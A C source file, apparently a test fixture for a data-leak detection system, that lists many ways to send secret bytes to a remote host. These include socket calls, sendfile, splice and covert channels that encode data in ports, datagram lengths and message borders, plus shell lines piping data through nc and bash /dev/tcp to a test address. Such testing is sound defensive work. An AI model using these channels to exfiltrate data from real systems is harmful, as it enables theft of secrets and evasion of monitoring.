// SPDX-License-Identifier: GPL-2.0-only
/* Ways to send bytes to the other host. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "leak.h"

extern char **environ;

static ssize_t by_write(const char *path, char *data, size_t size)
{
	(void)path;
	return write(leak_connect(SOCK_STREAM), data, size);
}

static ssize_t by_writev(const char *path, char *data, size_t size)
{
	struct iovec parts[] = { { data, 3 }, { NULL, 0 }, { data + 3, size - 3 } };

	(void)path;
	return writev(leak_connect(SOCK_STREAM), parts, 3);
}

/* Sockets have no positions: through a file, by another program. */
static ssize_t by_file(char *data, size_t size, ssize_t (*put)(int, char *, size_t))
{
	int fd = open("copy", O_RDWR | O_CREAT | O_TRUNC, 0600);

	if (put(fd, data, size) < 0)
		return -1;
	execlp("sh", "sh", "-c", "exec nc -w 2 remote 9 < copy", NULL);
	return -1;
}

static ssize_t put_pwrite(int fd, char *data, size_t size)
{
	return pwrite(fd, data, size, 0);
}

static ssize_t put_pwritev(int fd, char *data, size_t size)
{
	struct iovec part = { data, size };

	return pwritev2(fd, &part, 1, 0, 0);
}

static ssize_t put_tail(int fd, char *data, size_t size)
{
	if (ftruncate(fd, 5000))
		return -1;
	return pwrite(fd, data, size, 4900);
}

static ssize_t put_mapped(int fd, char *data, size_t size)
{
	char *page;

	if (ftruncate(fd, size))
		return -1;
	page = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (page == MAP_FAILED)
		return -1;
	memcpy(page, data, size);
	return 0;
}

static ssize_t by_mapped_file(const char *path, char *data, size_t size)
{
	(void)path;
	return by_file(data, size, put_mapped);
}

/* A file without a name goes to a program that has never seen the secret's. */
static ssize_t by_memory_file(const char *path, char *data, size_t size)
{
	int fd = memfd_create("memory", 0), status, ends[2];
	char byte;
	pid_t pid;

	(void)path;
	/* The relay is born before anything is written. */
	if (pipe(ends))
		return -1;
	pid = fork();
	if (!pid) {
		if (read(ends[0], &byte, 1) != 1)
			_exit(1);
		size = pread(fd, data, LEAK_SIZE, 0);
		_exit(by_write(NULL, data, size) < 0);
	}
	if (write(fd, data, size) < 0 || write(ends[1], "x", 1) < 0)
		return -1;
	return waitpid(pid, &status, 0) < 0 || status ? -1 : 0;
}

static ssize_t to_stdout(const char *path, char *data, size_t size)
{
	(void)path;
	return write(1, data, size);
}

static ssize_t by_pwrite(const char *path, char *data, size_t size)
{
	(void)path;
	return by_file(data, size, put_pwrite);
}

static ssize_t by_pwritev(const char *path, char *data, size_t size)
{
	(void)path;
	return by_file(data, size, put_pwritev);
}

/* As dconf's clients make the file of its changes, which each of them maps. Returns 0 or -1. */
static ssize_t make_small_file(const char *byte, off_t position)
{
	int fd = open("small", O_RDWR | O_CREAT, 0600);

	if (fd < 0 || pwrite(fd, byte, 1, position) != 1)
		return -1;
	return mmap(NULL, 1, PROT_READ, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0;
}

static ssize_t by_lone_zero(const char *path, char *data, size_t size)
{
	(void)path, (void)data, (void)size;
	return make_small_file("", 1);
}

static ssize_t by_lone_byte(const char *path, char *data, size_t size)
{
	(void)path, (void)size;
	return make_small_file(data, 1);
}

static ssize_t by_zero_at_place(const char *path, char *data, size_t size)
{
	(void)path, (void)size;
	return make_small_file("", 2 + (unsigned char)*data);
}

static ssize_t by_sparse_file(const char *path, char *data, size_t size)
{
	(void)path;
	return by_file(data, size, put_tail);
}

static ssize_t by_send(const char *path, char *data, size_t size)
{
	(void)path;
	return send(leak_connect(SOCK_STREAM), data, size, 0);
}

static ssize_t by_datagram(const char *path, char *data, size_t size)
{
	(void)path;
	return send(leak_connect(SOCK_DGRAM), data, size, 0);
}

static ssize_t by_addressed_datagram(const char *path, char *data, size_t size)
{
	struct sockaddr_in address = leak_address();

	(void)path;
	return sendto(socket(AF_INET, SOCK_DGRAM, 0), data, size, 0, (void *)&address, sizeof(address));
}

/* The address of a fast open goes with the first data. */
static ssize_t by_fast_open(const char *path, char *data, size_t size)
{
	struct sockaddr_in address = leak_address();

	(void)path;
	return sendto(socket(AF_INET, SOCK_STREAM, 0), data, size, MSG_FASTOPEN, (void *)&address, sizeof(address));
}

static ssize_t send_message(int fd, char *data, size_t size, int flags)
{
	struct iovec parts[] = { { data, 5 }, { data + 5, size - 5 } };
	struct msghdr message = { .msg_iov = parts, .msg_iovlen = 2 };

	return sendmsg(fd, &message, flags);
}

static ssize_t by_sendmsg(const char *path, char *data, size_t size)
{
	(void)path;
	return send_message(leak_connect(SOCK_STREAM), data, size, 0);
}

static ssize_t by_zero_copy(const char *path, char *data, size_t size)
{
	int fd = leak_connect(SOCK_STREAM), yes = 1;

	(void)path;
	setsockopt(fd, SOL_SOCKET, SO_ZEROCOPY, &yes, sizeof(yes));
	return send_message(fd, data, size, MSG_ZEROCOPY);
}

static ssize_t by_addressed_sendmsg(const char *path, char *data, size_t size)
{
	struct sockaddr_in address = leak_address();
	struct iovec part = { data, size };
	struct msghdr message = {
		.msg_name = &address, .msg_namelen = sizeof(address), .msg_iov = &part, .msg_iovlen = 1
	};

	(void)path;
	return sendmsg(socket(AF_INET, SOCK_DGRAM, 0), &message, 0);
}

static ssize_t by_sendmmsg(const char *path, char *data, size_t size)
{
	struct iovec parts[] = { { data, size / 2 }, { data + size / 2, size - size / 2 } };
	struct mmsghdr messages[] = { { .msg_hdr = { .msg_iov = &parts[0], .msg_iovlen = 1 } },
				      { .msg_hdr = { .msg_iov = &parts[1], .msg_iovlen = 1 } } };

	(void)path;
	return sendmmsg(leak_connect(SOCK_DGRAM), messages, 2, 0);
}

static ssize_t by_splice(const char *path, char *data, size_t size)
{
	int ends[2];

	(void)path;
	if (pipe(ends) || write(ends[1], data, size) < 0)
		return -1;
	return splice(ends[0], NULL, leak_connect(SOCK_STREAM), NULL, size, 0);
}

/* Fills one pipe after the other until that is refused, tells how many, and keeps them. */
static ssize_t by_many_pipes(const char *path, char *data, size_t size)
{
	int ends[2], count = 0;

	(void)path;
	while (!pipe(ends) && write(ends[1], data, size) == (ssize_t)size)
		count++;
	printf("pipes %d %s\n", count, strerrorname_np(errno));
	fflush(stdout);
	close(creat("/tmp/full", 0600));
	return pause();
}

static ssize_t by_vmsplice(const char *path, char *data, size_t size)
{
	struct iovec part = { data, size };
	int ends[2];

	(void)path;
	if (pipe(ends) || vmsplice(ends[1], &part, 1, 0) < 0)
		return -1;
	return splice(ends[0], NULL, leak_connect(SOCK_STREAM), NULL, size, 0);
}

/* Straight from the labelled file; @data is not used. */
static ssize_t by_sendfile(const char *path, char *data, size_t size)
{
	(void)data;
	return sendfile(leak_connect(SOCK_STREAM), open(path, O_RDONLY), NULL, size);
}

static ssize_t by_sendfile_at(const char *path, char *data, size_t size)
{
	off_t offset = 0;

	(void)data;
	return sendfile(leak_connect(SOCK_STREAM), open(path, O_RDONLY), &offset, size);
}

static ssize_t by_child(const char *path, char *data, size_t size)
{
	int status;

	if (!fork())
		_exit(by_write(path, data, size) < 0);
	wait(&status);
	return status ? -1 : 0;
}

#define BURST 100

static volatile sig_atomic_t caught;

static void count_signal(int number)
{
	(void)number;
	caught++;
}

/* Sends when it has handled BURST signals, all of which begin before the first is done. SIGUSR1 tells when. */
static ssize_t by_handling_signals(const char *path, char *data, size_t size)
{
	struct sigaction action = { .sa_handler = count_signal, .sa_flags = SA_NODEFER };
	sigset_t set;

	sigaction(SIGRTMIN, &action, NULL);
	sigaction(SIGUSR1, &action, NULL);
	sigemptyset(&set);
	sigaddset(&set, SIGRTMIN);
	sigprocmask(SIG_BLOCK, &set, NULL);
	for (int i = 0; i < BURST; i++)
		sigqueue(getpid(), SIGRTMIN, (union sigval){ .sival_int = i });
	close(open("handles", O_WRONLY | O_CREAT, 0600));
	while (!caught)
		;
	sigprocmask(SIG_UNBLOCK, &set, NULL);
	while (caught <= BURST)
		;
	return by_write(path, data, size);
}

struct job {
	char *data;
	size_t size;
	ssize_t result;
};

static void *send_in_thread(void *argument)
{
	struct job *job = argument;

	job->result = by_write(NULL, job->data, job->size);
	return NULL;
}

static ssize_t run_in_thread(void *function(void *), char *data, size_t size)
{
	struct job job = { data, size, -1 };
	pthread_t thread;

	if (pthread_create(&thread, NULL, function, &job) || pthread_join(thread, NULL))
		return -1;
	return job.result;
}

static ssize_t by_thread(const char *path, char *data, size_t size)
{
	(void)path;
	return run_in_thread(send_in_thread, data, size);
}

/* What is not open for that refuses as ever. */
static void *use_wrong_ends(void *argument)
{
	struct job *job = argument;
	int ends[2], others[2];

	if (pipe(ends) || pipe(others) || write(ends[1], job->data, job->size) < 0)
		leak_fail("pipe");
	if (write(ends[0], job->data, job->size) >= 0 || errno != EBADF)
		leak_fail("the reading end");
	if (pwrite(ends[1], job->data, job->size, 0) >= 0 || errno != ESPIPE)
		leak_fail("a place in a pipe");
	if (splice(ends[1], NULL, others[1], NULL, job->size, 0) >= 0 || errno != EBADF)
		leak_fail("the writing end");
	return send_in_thread(argument);
}

static ssize_t by_thread_with_wrong_ends(const char *path, char *data, size_t size)
{
	(void)path;
	return run_in_thread(use_wrong_ends, data, size);
}

/* The spawned program has the bytes in its arguments. */
static ssize_t by_spawn(const char *path, char *data, size_t size)
{
	char *words[] = { "bash", "-c", "echo \"$0\" > /dev/tcp/10.77.0.2/9", data, NULL };
	int status;
	pid_t pid;

	(void)path;
	data[size - 1] = 0;
	if (posix_spawnp(&pid, "bash", NULL, NULL, words, environ) || waitpid(pid, &status, 0) < 0)
		return -1;
	return status ? -1 : 0;
}

static ssize_t by_vfork(const char *path, char *data, size_t size)
{
	int status;
	pid_t pid;

	(void)path;
	data[size - 1] = 0;
	setenv("STOLEN", data, 1);
	pid = vfork();
	if (!pid) {
		execlp("bash", "bash", "-c", "echo \"$STOLEN\" > /dev/tcp/10.77.0.2/9", NULL);
		_exit(127);
	}
	return waitpid(pid, &status, 0) < 0 || status ? -1 : 0;
}

/* One character at a time, and only which of two it is. */
static ssize_t by_branch(const char *path, char *data, size_t size)
{
	int fd = leak_connect(SOCK_STREAM);

	(void)path;
	for (size_t i = 0; i < size; i++) {
		const char *bit = data[i] & 1 ? "1" : "0";

		if (write(fd, bit, 1) < 0)
			return -1;
	}
	return 0;
}

/* The bytes are the same, how many they are is not. */
static ssize_t by_length(const char *path, char *data, size_t size)
{
	static const char zeros[256];
	int fd = leak_connect(SOCK_DGRAM);

	(void)path;
	for (size_t i = 0; i < size; i++)
		if (send(fd, zeros, (unsigned char)data[i], 0) < 0)
			return -1;
	return 0;
}

/* All bytes are alike. The border between two messages of one call is the byte. */
static ssize_t by_border(const char *path, char *data, size_t size)
{
	static char zeros[256];
	int fd = leak_connect(SOCK_DGRAM);

	(void)path;
	for (size_t i = 0; i < size; i++) {
		size_t first = (unsigned char)data[i];
		struct iovec parts[] = { { zeros, first }, { zeros, sizeof(zeros) - first } };
		struct mmsghdr messages[] = { { .msg_hdr = { .msg_iov = &parts[0], .msg_iovlen = 1 } },
					      { .msg_hdr = { .msg_iov = &parts[1], .msg_iovlen = 1 } } };

		if (sendmmsg(fd, messages, 2, 0) < 0)
			return -1;
	}
	return 0;
}

/* The port is the byte. */
static ssize_t by_port(const char *path, char *data, size_t size)
{
	struct sockaddr_in address = leak_address();
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	(void)path, (void)size;
	address.sin_port = htons(2000 + data[0]);
	return sendto(fd, "x", 1, 0, (void *)&address, sizeof(address));
}

static ssize_t by_connect(const char *path, char *data, size_t size)
{
	struct sockaddr_in address = leak_address();
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	(void)path, (void)size;
	address.sin_port = htons(2000 + data[0]);
	return connect(fd, (void *)&address, sizeof(address));
}

const struct leak_way leak_outputs[] = {
	{ "write", by_write },
	{ "writev", by_writev },
	{ "pwrite", by_pwrite },
	{ "lone-zero", by_lone_zero },
	{ "lone-byte", by_lone_byte },
	{ "zero-at-place", by_zero_at_place },
	{ "pwritev2", by_pwritev },
	{ "sparse-file", by_sparse_file },
	{ "mapped-file", by_mapped_file },
	{ "memory-file", by_memory_file },
	{ "stdout", to_stdout },
	{ "send", by_send },
	{ "sendto-connected", by_datagram },
	{ "sendto-addressed", by_addressed_datagram },
	{ "fast-open", by_fast_open },
	{ "sendmsg", by_sendmsg },
	{ "sendmsg-addressed", by_addressed_sendmsg },
	{ "zero-copy", by_zero_copy },
	{ "sendmmsg", by_sendmmsg },
	{ "splice", by_splice },
	{ "vmsplice", by_vmsplice },
	{ "many-pipes", by_many_pipes },
	{ "sendfile", by_sendfile },
	{ "sendfile-at", by_sendfile_at },
	{ "child", by_child },
	{ "handling-signals", by_handling_signals },
	{ "thread", by_thread },
	{ "wrong-ends", by_thread_with_wrong_ends },
	{ "spawn", by_spawn },
	{ "vfork", by_vfork },
	{ "branch", by_branch },
	{ "length", by_length },
	{ "border", by_border },
	{ "port", by_port },
	{ "connect", by_connect },
	{ NULL, NULL },
};
